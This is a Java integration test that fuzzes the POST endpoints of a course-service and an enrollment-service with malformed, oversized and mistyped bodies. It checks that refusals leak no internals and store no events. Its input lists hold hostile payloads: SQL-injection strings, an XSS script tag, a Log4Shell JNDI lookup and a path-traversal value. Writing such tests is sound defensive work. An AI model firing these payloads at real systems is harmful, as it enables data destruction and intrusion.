package cn.workerspalace.faulttests;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import cn.workerspalace.faulttests.Endpoints.Endpoint;
import cn.workerspalace.localstack.demo.NationalIds;
import cn.workerspalace.localstack.stack.Service;
import cn.workerspalace.localstack.stack.Stack;
import cn.workerspalace.localstack.testkit.Http;
import cn.workerspalace.localstack.testkit.Province;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.atomic.AtomicLong;
import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;

/**
 * Issue 5, fault test 6: every POST endpoint of course-service and enrollment-service (as their OpenAPI documents
 * list them; the test also checks that api.md's are all there) gets malformed JSON, wrong types, missing and extra
 * fields, bodies over 1 MiB (with a Content-Length and streamed), deep nesting, a wrong content type, hostile path
 * values, and SQL-looking, control-character, emoji, right-to-left and very long strings in every string field. No
 * answer is a 5xx; a refused request (4xx) is a problem document that leaks no internals and stores no event; and
 * whatever was accepted flows on: every event stored during the sweep reaches the projection.
 */
@Order(6)
@FaultStack
class BadInputSweepIT {

    /** api.md's POST endpoints, path variables written as {}. */
    private static final Set<String> API_MD_COURSE = Set.of("/api/palaces", "/api/palaces/{}/service-points",
            "/api/courses", "/api/classes", "/api/classes/{}/capacity", "/api/classes/{}/cancel",
            "/api/classes/{}/complete");
    private static final Set<String> API_MD_ENROLLMENT = Set.of("/api/workers", "/api/classes/{}/sign-ups",
            "/api/classes/{}/attendance", "/api/subsidy-quotas", "/api/subsidy-quotas/{}/allocations",
            "/api/degree-applications", "/api/degree-applications/{}/approve", "/api/degree-applications/{}/reject",
            "/api/degree-applications/{}/admit", "/api/degree-applications/{}/payments",
            "/api/degree-applications/{}/graduate", "/api/degree-applications/{}/withdraw");
    private static final List<String> HOSTILE_STRINGS = List.of(
            "'; DROP TABLE domainevententry; --",
            "\" OR \"1\"=\"1\"; DELETE FROM tokenentry; --",
            "Robert'); DROP TABLE idempotent_request;--",
            "👷‍♀️🏛️🎓 工人文化宫 🇨🇳",
            "مرحبا بالعالم \u202Egnp.exe",
            "nul\u0000byte",
            "tab\tnew\nline\rbell\u0007",
            "<script>alert(1)</script>",
            "${jndi:ldap://example.invalid/a}",
            "%s%n%x%d",
            "   ",
            "长".repeat(5000));
    private static final List<String> HOSTILE_PATH_VALUES = List.of("%27%3B%20DROP%20TABLE%20domainevententry%3B--",
            "..%2F..%2Factuator", "%F0%9F%91%B7", "%00", "a".repeat(3000));
    private static final int MIB = 1024 * 1024;

    private final Http http = new Http(Duration.ofSeconds(30));
    private final List<String> violations = new ArrayList<>();
    private final AtomicLong probes = new AtomicLong();
    private final AtomicLong accepted = new AtomicLong();
    private final AtomicLong identities = new AtomicLong();
    private final Map<Integer, Long> statuses = new LinkedHashMap<>();
    /** The event store of the service being probed. */
    private Head head;

    @Test
    void no_bad_input_to_any_post_endpoint_gets_a_5xx_or_stores_an_event_when_refused(Stack stack)
            throws SQLException {
        World world = World.create(stack, http, "t6", 2, 5, 2, 18001);
        List<Endpoint> course = Endpoints.of(http, world.course, (template, variable) -> pathValue(world, template),
                name -> fieldValue(world, name));
        List<Endpoint> enrollment = Endpoints.of(http, world.enrollment,
                (template, variable) -> pathValue(world, template), name -> fieldValue(world, name));
        assertThat(course.stream().map(e -> normalised(e.template())).toList())
                .as("course-service's POST endpoints in its OpenAPI document").containsAll(API_MD_COURSE);
        assertThat(enrollment.stream().map(e -> normalised(e.template())).toList())
                .as("enrollment-service's POST endpoints in its OpenAPI document").containsAll(API_MD_ENROLLMENT);

        Set<String> storedDuringSweep = new HashSet<>();
        // course-service first; then, once what its accepted probes set off in enrollment-service has settled,
        // enrollment-service: a refused probe is checked against the store of the service it went to
        try (Head courseHead = new Head(stack.jdbcUrl(Service.COURSE));
             Head enrollmentHead = new Head(stack.jdbcUrl(Service.ENROLLMENT))) {
            long courseStart = courseHead.quiet(Duration.ofSeconds(2));
            long enrollmentStart = enrollmentHead.quiet(Duration.ofSeconds(2));
            head = courseHead;
            course.forEach(this::sweep);
            head = enrollmentHead;
            // what the accepted course probes set off in enrollment-service (rosters of new classes) settles first
            await().atMost(Duration.ofMinutes(2)).pollInterval(Duration.ofMillis(500)).until(() ->
                    Metrics.sum(http, world.course, "palace_relay_lag_events") == 0);
            enrollmentHead.quiet(Duration.ofSeconds(3));
            enrollment.forEach(this::sweep);
            storedDuringSweep.addAll(courseHead.eventIdsAfter(courseStart));
            storedDuringSweep.addAll(enrollmentHead.eventIdsAfter(enrollmentStart));
        }

        long applied = awaitApplied(stack, storedDuringSweep);
        RunReport.line("bad input sweep", "%d POST endpoints (%d course-service, %d enrollment-service), %d probes: "
                        + "answers by status %s; %d accepted, whose %d events the projection applied %d of; "
                        + "violations: %d%s", course.size() + enrollment.size(), course.size(), enrollment.size(),
                probes.get(), statuses, accepted.get(), storedDuringSweep.size(), applied, violations.size(),
                violations.isEmpty() ? "" : " " + violations);
        SoftAssertions.assertSoftly(softly -> {
            softly.assertThat(violations).as("violations among %d probes", probes.get()).isEmpty();
            softly.assertThat(applied).as("events stored during the sweep that the projection applied")
                    .isEqualTo(storedDuringSweep.size());
        });
    }

    /** How many of the events the projection has applied, once that number has stopped growing (at most 2 min). */
    private static long awaitApplied(Stack stack, Set<String> eventIds) {
        long[] last = {-1};
        try {
            await().atMost(Duration.ofMinutes(2)).pollInterval(Duration.ofSeconds(2)).until(() -> {
                long applied = appliedByProjection(stack, eventIds);
                boolean done = applied == eventIds.size() || applied == last[0] && applied > 0;
                last[0] = applied;
                return done;
            });
        } catch (org.awaitility.core.ConditionTimeoutException e) {
            // reported through the number below
        }
        return last[0];
    }

    private void sweep(Endpoint endpoint) {
        String json = "application/json";
        for (String malformed : List.of("{", "{\"id\":", "not json", "{\"a\":1,}", "[1,2", "null", "[]", "\"\"", "42",
                "", "{'single':'quotes'}", "\uFEFF{}", "{\"a\":\"\\uZZZZ\"}")) {
            probe(endpoint, "malformed " + malformed, json, malformed.getBytes(StandardCharsets.UTF_8));
        }
        probe(endpoint, "invalid UTF-8", json, new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xC3, (byte) 0x28,
            '"', '}'});
        probe(endpoint, "nesting 100000 deep", json, ("[".repeat(100_000) + "]".repeat(100_000))
                .getBytes(StandardCharsets.UTF_8));
        probe(endpoint, "a number of 100000 digits", json, ("{\"capacity\":" + "9".repeat(100_000) + "}")
                .getBytes(StandardCharsets.UTF_8));
        byte[] huge = hugeBody(endpoint);
        probe(endpoint, "body over 1 MiB", json, huge);
        probeChunked(endpoint, huge);
        byte[] template = endpoint.body() == null ? "{}".getBytes(StandardCharsets.UTF_8)
                : Endpoints.bytes(endpoint.body());
        probe(endpoint, "text/plain", "text/plain", template);
        probe(endpoint, "application/xml", "application/xml", "<a/>".getBytes(StandardCharsets.UTF_8));
        probe(endpoint, "no content type", null, template);
        for (String value : HOSTILE_PATH_VALUES) {
            String path = endpoint.path().replaceFirst("/api/([a-z-]+)/[^/]+/", "/api/$1/" + value + "/");
            if (!path.equals(endpoint.path())) {
                probe(new Endpoint(endpoint.service(), endpoint.template(), path, endpoint.body(),
                        endpoint.stringFields()), "path value " + value, json, template);
            }
        }
        if (endpoint.body() == null) {
            return;
        }
        probe(endpoint, "empty object", json, "{}".getBytes(StandardCharsets.UTF_8));
        ObjectNode extra = endpoint.body().deepCopy();
        extra.put("unexpectedField", 1);
        probe(endpoint, "extra field", json, Endpoints.bytes(extra));
        probe(endpoint, "duplicate field", json, ("{\"a\":1,\"a\":2," + new String(template,
                StandardCharsets.UTF_8).substring(1)).getBytes(StandardCharsets.UTF_8));
        endpoint.body().fieldNames().forEachRemaining(field -> {
            ObjectNode missing = fresh(endpoint, field);
            missing.remove(field);
            probe(endpoint, "missing " + field, json, Endpoints.bytes(missing));
            for (JsonNode wrong : wrongTypes(endpoint.body().get(field))) {
                ObjectNode mistyped = fresh(endpoint, field);
                mistyped.set(field, wrong);
                probe(endpoint, field + " = " + abbreviated(wrong.toString()), json, Endpoints.bytes(mistyped));
            }
        });
        for (String hostile : HOSTILE_STRINGS) {
            for (String field : endpoint.stringFields()) {
                ObjectNode body = fresh(endpoint, field);
                body.put(field, hostile);
                probe(endpoint, field + " = " + abbreviated(hostile), json, Endpoints.bytes(body));
            }
        }
        // a lone surrogate can only be written as a JSON escape
        for (String field : endpoint.stringFields()) {
            ObjectNode body = fresh(endpoint, field);
            body.put(field, "SURROGATE");
            probe(endpoint, field + " = lone surrogate", json, new String(Endpoints.bytes(body), StandardCharsets.UTF_8)
                    .replace("\"SURROGATE\"", "\"\\uD800x\"").getBytes(StandardCharsets.UTF_8));
        }
    }

    /**
     * The endpoint's body with a new identity (its {@code id} and national ID number, unless {@code field} is the one
     * under test), so that what the probe puts in is judged on its own rather than refused as a duplicate.
     */
    private ObjectNode fresh(Endpoint endpoint, String field) {
        ObjectNode body = endpoint.body().deepCopy();
        long n = identities.incrementAndGet();
        if (body.has("id") && !field.equals("id")) {
            body.put("id", "t6-probe-" + n);
        }
        if (body.has("idNumber") && !field.equals("idNumber")) {
            body.put("idNumber", NationalIds.of("370100", LocalDate.of(1960, 1, 1).plusDays(n), 500));
        }
        return body;
    }

    private static List<JsonNode> wrongTypes(JsonNode value) {
        JsonNodeFactory nodes = JsonNodeFactory.instance;
        List<JsonNode> wrong = new ArrayList<>(List.of(nodes.objectNode().put("nested", true),
                nodes.arrayNode().add(1)));
        if (value.isTextual()) {
            wrong.add(nodes.booleanNode(false));
        } else if (value.isNumber()) {
            wrong.addAll(List.of(nodes.textNode("many"), nodes.numberNode(1.5), nodes.numberNode(-1),
                    nodes.numberNode(new java.math.BigDecimal("1e400")), nodes.booleanNode(true)));
        } else if (value.isBoolean()) {
            wrong.addAll(List.of(nodes.textNode("maybe"), nodes.numberNode(2)));
        } else {
            wrong.add(nodes.textNode("x"));
        }
        return wrong;
    }

    private byte[] hugeBody(Endpoint endpoint) {
        ObjectNode body = endpoint.body() == null ? JsonNodeFactory.instance.objectNode() : endpoint.body().deepCopy();
        String field = endpoint.stringFields().isEmpty() ? "padding" : endpoint.stringFields().get(0);
        body.put(field, "x".repeat(MIB + 16));
        return Endpoints.bytes(body);
    }

    private void probeChunked(Endpoint endpoint, byte[] body) {
        check(endpoint, "body over 1 MiB, streamed", () -> http.postChunked(endpoint.service(), endpoint.path(),
                "application/json", body), 413);
    }

    private void probe(Endpoint endpoint, String what, String contentType, byte[] body) {
        Integer required = body.length > MIB ? 413 : null;
        check(endpoint, what, () -> http.postRaw(endpoint.service(), endpoint.path(), contentType, body), required);
    }

    private void check(Endpoint endpoint, String what, java.util.function.Supplier<Http.Answer> request,
                       Integer requiredStatus) {
        probes.incrementAndGet();
        long before = head.now();
        Http.Answer answer;
        try {
            answer = request.get();
        } catch (UncheckedIOException e) {
            violations.add(endpoint + " " + what + ": no answer (" + e.getCause() + ")");
            return;
        }
        statuses.merge(answer.status(), 1L, Long::sum);
        String probe = endpoint + " [" + endpoint.path().length() + " chars path] " + what;
        if (answer.status() >= 500) {
            violations.add(probe + ": " + answer + storedSince(before));
            return;
        }
        if (requiredStatus != null && answer.status() != requiredStatus) {
            violations.add(probe + ": expected " + requiredStatus + ", got " + answer);
        }
        if (answer.successful()) {
            // it stored its events before it answered; what it sets off in the other service is not checked here
            accepted.incrementAndGet();
            return;
        }
        boolean hostilePath = what.startsWith("path value");
        if (!hostilePath && (answer.contentType() == null
                || !answer.contentType().startsWith("application/problem+json"))) {
            violations.add(probe + ": " + answer.status() + " answered as " + answer.contentType());
        }
        String text = answer.body().toString();
        for (String leak : List.of("Exception", "java.", "org.", "SQL", "ERROR:", "\\tat ")) {
            if (text.contains(leak)) {
                violations.add(probe + ": the answer leaks internals (" + leak + "): " + abbreviated(text));
                break;
            }
        }
        String stored = storedSince(before);
        if (!stored.isEmpty()) {
            violations.add(probe + ": refused with " + answer.status() + stored);
        }
    }

    /** Empty when the probed service's event store has not grown since {@code before}. */
    private String storedSince(long before) {
        long after = head.now();
        if (after == before) {
            return "";
        }
        head.quiet(Duration.ofMillis(300));
        return "; events were stored (head " + before + " -> " + after + ")";
    }

    private static String pathValue(World world, String template) {
        if (template.startsWith("/api/palaces/")) {
            return world.palaces.get(0);
        }
        if (template.startsWith("/api/classes/{classId}")) {
            return world.classes.get(0);
        }
        if (template.startsWith("/api/classes/")) {
            // capacity, cancel and complete work on the other class, so the first stays open for sign-ups
            return world.classes.get(1);
        }
        if (template.startsWith("/api/subsidy-quotas/")) {
            return "2099";
        }
        return "t6-no-such-thing";
    }

    private static JsonNode fieldValue(World world, String name) {
        JsonNodeFactory nodes = JsonNodeFactory.instance;
        Instant now = Instant.now();
        return switch (name) {
            case "id" -> nodes.textNode("t6-probe");
            case "palaceId" -> nodes.textNode(world.palaces.get(0));
            case "parentId" -> nodes.textNode(Province.JINAN);
            case "courseId" -> nodes.textNode("t6-course-0");
            case "workerId" -> nodes.textNode(world.workers.get(0));
            case "cityCode" -> nodes.textNode("370100");
            case "idNumber" -> nodes.textNode(NationalIds.of("370100", LocalDate.of(1990, 5, 17), 777));
            case "phone" -> nodes.textNode("13912345678");
            case "capacity", "places" -> nodes.numberNode(5);
            case "year" -> nodes.numberNode(2099);
            case "lessonIndex" -> nodes.numberNode(0);
            case "amount" -> nodes.numberNode(100);
            case "servicePointId" -> nodes.textNode("t6-no-such-point");
            case "enrolmentOpensAt" -> nodes.textNode(now.minus(1, ChronoUnit.DAYS).toString());
            case "enrolmentClosesAt" -> nodes.textNode(now.plus(30, ChronoUnit.DAYS).toString());
            case "lessons" -> nodes.arrayNode().add(nodes.objectNode()
                    .put("startsAt", now.plus(2, ChronoUnit.DAYS).toString())
                    .put("endsAt", now.plus(2, ChronoUnit.DAYS).plus(2, ChronoUnit.HOURS).toString()));
            default -> null;
        };
    }

    private static String normalised(String template) {
        return template.replaceAll("\\{[^}]+}", "{}");
    }

    private static String abbreviated(String text) {
        String visible = text.replace("\u0000", "\\0");
        return visible.length() <= 60 ? visible : visible.substring(0, 60) + "...(" + visible.length() + " chars)";
    }

    private static long appliedByProjection(Stack stack, Set<String> eventIds) throws SQLException {
        try (Connection connection = DriverManager.getConnection(stack.jdbcUrl(Service.PROJECTION));
             PreparedStatement query = connection.prepareStatement(
                     "select count(*) from processed_event where event_id = any (?)")) {
            query.setArray(1, connection.createArrayOf("text", eventIds.toArray()));
            try (ResultSet row = query.executeQuery()) {
                row.next();
                return row.getLong(1);
            }
        }
    }

    /**
     * The head (highest global index) of a service's event store, read over a connection kept open: unchanged means
     * no event was stored.
     */
    private static final class Head implements AutoCloseable {

        private final Connection connection;
        private final PreparedStatement query;

        Head(String jdbcUrl) throws SQLException {
            connection = DriverManager.getConnection(jdbcUrl);
            query = connection.prepareStatement("select coalesce(max(globalindex), 0) from domainevententry");
        }

        long now() {
            try (ResultSet row = query.executeQuery()) {
                row.next();
                return row.getLong(1);
            } catch (SQLException e) {
                throw new IllegalStateException("cannot read the event store", e);
            }
        }

        /** Waits until the store has not grown for {@code calm}, and answers its head. */
        long quiet(Duration calm) {
            long[] last = {now()};
            await().atMost(Duration.ofMinutes(1)).pollDelay(calm).pollInterval(calm).until(() -> {
                long current = now();
                boolean settled = current == last[0];
                last[0] = current;
                return settled;
            });
            return last[0];
        }

        Set<String> eventIdsAfter(long index) throws SQLException {
            try (PreparedStatement ids = connection.prepareStatement(
                    "select eventidentifier from domainevententry where globalindex > ?")) {
                ids.setLong(1, index);
                Set<String> found = new HashSet<>();
                try (ResultSet rows = ids.executeQuery()) {
                    while (rows.next()) {
                        found.add(rows.getString(1));
                    }
                }
                return found;
            }
        }

        @Override
        public void close() throws SQLException {
            connection.close();
        }
    }
}
